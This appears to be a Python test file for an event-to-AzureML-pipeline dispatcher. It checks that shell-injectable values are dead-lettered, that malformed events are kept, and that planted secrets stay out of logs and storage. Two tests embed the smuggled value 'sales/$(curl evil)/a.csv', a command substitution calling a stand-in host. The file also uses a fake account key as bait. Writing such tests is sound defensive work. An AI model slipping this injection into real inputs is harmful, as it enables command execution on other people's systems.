"""What is no event, and what means harm: it is refused or kept, and shows no secret."""

import json
import logging
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shared import envelopes
from shared.definitions import MANUAL_TRIGGER, UNREADABLE_TRIGGER, TriggerDefinition
from shared.errors import (
    Conflict,
    EventInvalid,
    RequestInvalid,
    StorageUnavailable,
)
from shared.events import about
from shared.ledger import State
from tests.fakes import World
from tests.unit.scene import (
    PIPELINE,
    Scene,
    event,
    fail,
    pipeline,
    request,
    trigger,
)

DOWN = StorageUnavailable("storage is down")


@pytest.fixture
def here() -> Scene:
    here = Scene()
    here.publish(trigger())
    return here


def test_what_a_shell_would_act_on_never_becomes_an_input(here: Scene) -> None:
    here.publish(
        trigger(inputs={"data": "${{ event.data.url }}", "region": "in ${{ captures.region }}"}),
        pipelines=[pipeline(inputs={"data": {"type": "uri_file"}, "region": {"type": "string"}})],
    )
    here.dispatcher.handle(event("sales/$(curl evil)/a.csv"))

    record = here.record()
    assert record.state is State.DEAD_LETTER
    assert record.reason is not None
    assert "inputs.data: " in record.reason.text
    assert "inputs.region: " in record.reason.text
    assert "a shell would act" in record.reason.text
    assert here.workspace.jobs == {}


@pytest.mark.parametrize("found", ["${{ [captures.region] }}", "${{ event.data }}"])
def test_what_a_shell_would_act_on_never_hides_in_a_list_or_an_object(
    here: Scene, found: str
) -> None:
    here.publish(
        trigger(inputs={"note": f"of {found}"}),
        pipelines=[pipeline(inputs={"note": {"type": "string"}})],
    )
    here.dispatcher.handle(event("sales/$(curl evil)/a.csv"))

    assert here.record().state is State.DEAD_LETTER


def test_what_a_trigger_writes_itself_is_its_author_s_business(here: Scene) -> None:
    here.publish(
        trigger(inputs={"data": "${{ event.data.url }}", "query": "a > 5 & b"}),
        pipelines=[pipeline(inputs={"data": {"type": "uri_file"}, "query": {"type": "string"}})],
    )
    here.dispatcher.handle(event())

    body = here.record().body
    assert body is not None
    assert body.inputs["query"] == "a > 5 & b"


def test_what_a_trigger_writes_around_an_expression_is_too(here: Scene) -> None:
    here.publish(
        trigger(inputs={"query": "region == '${{ captures.region }}'"}),
        pipelines=[pipeline(inputs={"query": {"type": "string"}})],
    )
    here.dispatcher.handle(event())

    assert here.record().state is State.SUBMITTED


# What is no event.


def refuse(here: Scene, content: str = "{", **given: Any) -> None:
    details: dict[str, Any] = {
        "id": "7@2026",
        "source": "servicebus:queue/inbox",
        "via": "queue/inbox",
        "at": World().now,
        "why": "The body is not JSON",
        **given,
    }
    here.dispatcher.refuse(content, **details)


def test_what_is_no_event_is_a_dead_letter_with_its_text(here: Scene) -> None:
    refuse(here, "{no json")

    record = here.record(UNREADABLE_TRIGGER)
    assert record.state is State.DEAD_LETTER
    assert record.reason is not None
    assert (record.reason.code, record.reason.text) == ("event_invalid", "The body is not JSON")
    assert record.event.data == {"text": "{no json"}
    assert (record.event.id, record.event.via) == ("7@2026", "queue/inbox")
    assert here.markers() == []
    assert [told["trigger"] for told in here.decisions()] == [UNREADABLE_TRIGGER]


def test_a_secret_is_kept_neither_in_the_text_nor_in_the_reason(here: Scene) -> None:
    refuse(here, f"{{ {SECRET}", why=f"{SECRET} is not JSON")

    assert "c2VjcmV0" not in here.record(UNREADABLE_TRIGGER).model_dump_json()


def test_what_is_delivered_twice_is_one_dead_letter_and_other_content_is_another(
    here: Scene,
) -> None:
    for content in ("{", "{", "{{"):
        refuse(here, content)

    assert len(here.decisions()) == 2


@pytest.mark.parametrize("applied", [False, True])
@pytest.mark.parametrize("call", ["put open/", "create ledger/", "put history/", "delete open/"])
def test_what_could_not_be_refused_is_when_it_is_delivered_again(
    here: Scene, call: str, applied: bool
) -> None:
    fail(here.world, call, DOWN, applied=applied)
    if call.endswith(("open/", "ledger/")) and "delete" not in call:
        with pytest.raises(StorageUnavailable):
            refuse(here)
    else:
        refuse(here)
    refuse(here)
    here.tick.run()

    assert len(here.decisions()) == 1
    assert here.markers() == []


@given(
    st.text() | st.binary().map(lambda raw: raw.decode(errors="surrogateescape")),
    st.text() | st.just("x" * 5000),
    st.text() | st.just("x" * 5000),
    st.text(),
)
@settings(suppress_health_check=[HealthCheck.too_slow])
def test_whatever_is_refused_is_kept(content: str, id: str, source: str, why: str) -> None:
    here = Scene()
    here.publish()
    refuse(here, content + "\ud800", id=id + "\ud800", source=source, why=why + "\udfff")

    record = here.record(UNREADABLE_TRIGGER)
    assert record.state is State.DEAD_LETTER
    assert len(record.event.data["text"]) <= 2000
    assert here.markers() == []


# Hostile input: it ends in a record or in a refusal, and what it planted is nowhere to be read.


SECRET = "AccountKey=c2VjcmV0c2VjcmV0c2VjcmV0"


planted = st.sampled_from(
    [SECRET, f"a {SECRET}", f"https://x/a?sig={'c2VjcmV0' * 4}", "a", "${{ event }}"]
)


nested = st.recursive(
    planted | st.none() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(), inner, max_size=2),
    max_leaves=4,
)


hostile = st.fixed_dictionaries(
    {
        "specversion": st.just("1.0"),
        "id": planted,
        "source": planted,
        "type": st.sampled_from(["order.placed", "other"]),
    },
    optional={"subject": planted, "data": nested, "tenant": planted, "time": planted},
)


LISTENING: dict[str, dict[str, Any]] = {
    "a-bound": {"inputs": {"data": "${{ event.data }}"}, "tags": {"t": "${{ event.id }}"}},
    "b-tagged": {
        "inputs": {"data": "https://x/a"},
        "tags": {"t": "${{ event.subject || event.source }}"},
        "experiment_name": "e ${{ event.source }}",
    },
    "c-named": {"pipeline": "${{ event.data.to || event.source }}", "allow": [PIPELINE]},
    "d-where": {},
}


def hostile_scene() -> Scene:
    here = Scene()
    wheres = {"d-where": "event.data.a || event.subject || event.id"}
    triggers = [
        {
            "name": name,
            "spec": {"event": {"type": "order.placed"}, "where": wheres.get(name, "`true`")},
            "action": {"pipeline": PIPELINE, **action},
        }
        for name, action in LISTENING.items()
    ]
    queue = {
        "name": "e-queue",
        "spec": {"service_bus": {"queue": "inbox"}},
        "action": {"pipeline": PIPELINE, "inputs": {"data": "${{ event.data }}"}},
    }
    here.publish(*(TriggerDefinition.model_validate(one) for one in [*triggers, queue]))
    return here


def seen_by_others(here: Scene, logged: list[logging.LogRecord]) -> str:
    """Log lines with all that they carry, everything that is kept, and all that AzureML has."""
    return "\n".join(
        [
            *(f"{line.getMessage()} {line.__dict__}" for line in logged),
            *(f"{blob.data!r} {blob.metadata} {blob.tags}" for blob in here.blobs.stored.values()),
            *(body.model_dump_json() for body in here.workspace.bodies.values()),
            *here.blobs.stored,
        ]
    )


@given(hostile | st.lists(hostile, max_size=2) | nested, st.booleans())
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=100)
def test_hostile_input_ends_in_a_record_or_a_refusal_and_shows_no_secret(
    caplog: pytest.LogCaptureFixture, content: Any, by_queue: bool
) -> None:
    caplog.clear()
    caplog.set_level(logging.DEBUG)
    here = hostile_scene()
    raw = json.dumps(content).encode()
    try:
        events = (
            envelopes.message(raw, via="queue/inbox", sequence_number=1, enqueued=here.world.now)
            if by_queue
            else envelopes.parse(envelopes.decode(raw), now=here.world.now)
        )
    except EventInvalid as error:
        said = str(error)
        assert "c2VjcmV0" not in said
        refuse(here, raw.decode(), why=said)
        assert here.record(UNREADABLE_TRIGGER).state is State.DEAD_LETTER
        assert SECRET not in here.record(UNREADABLE_TRIGGER).model_dump_json()
    else:
        for found in events:
            for decision in here.dispatcher.handle(found):
                assert decision.check or decision.record
        here.tick.run()

    for name in here.blobs.stored:
        if name.startswith("ledger/"):
            _, trigger_name, key = name.removesuffix(".json").split("/")
            assert here.ledger.read(trigger_name, key) is not None
    assert "c2VjcmV0c2VjcmV0" not in seen_by_others(here, caplog.records)


@given(nested, nested, nested)
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_hostile_request_is_a_run_or_refused_and_shows_no_secret(
    caplog: pytest.LogCaptureFixture, value: Any, tag: Any, name: Any
) -> None:
    caplog.clear()
    caplog.set_level(logging.DEBUG)
    here = Scene()
    here.publish(pipelines=[pipeline(inputs={"note": {"type": "string", "default": "x"}})])
    try:
        given_event = request(
            inputs={"note": value}, tags={"t": tag, str(name): "x"}, experiment_name=name
        )
        here.dispatcher.run(given_event)
    except (EventInvalid, RequestInvalid) as error:
        problems = error.problems if isinstance(error, RequestInvalid) else {}
        assert "c2VjcmV0c2VjcmV0" not in f"{error} {problems}"
        assert here.workspace.jobs == {}
    else:
        assert here.record(MANUAL_TRIGGER).state is State.SUBMITTED
    assert "c2VjcmV0c2VjcmV0" not in seen_by_others(here, caplog.records)


def test_what_could_not_be_read_is_found_by_its_sender_s_id_and_not_tried_again(
    here: Scene,
) -> None:
    here.dispatcher.refuse(
        "no JSON", id="9@now", source="q", via="queue/q", at=World().now, why="w", message_id="m-1"
    )
    record = here.record(UNREADABLE_TRIGGER)

    assert record.event.message_id == "m-1"
    assert [marker.about for marker in here.ledger.open()] in ([about("m-1")], [])
    assert any(f"-{about('m-1')}-" in name for name in here.blobs.stored)
    with pytest.raises(Conflict, match="send it anew"):
        here.dispatcher.retry(UNREADABLE_TRIGGER, record.key)


def test_a_refusal_says_what_had_been_asked_before(here: Scene) -> None:
    here.publish(trigger(filters={"suffix": {"subject": ".txt"}}))
    here.dispatcher.handle(event())
    [decision] = here.decisions()

    assert decision["check"] == "filter suffix subject .txt"
    assert decision["passed"][0] == "uploaded to contosolake/landing"
    assert len(decision["passed"]) == 2
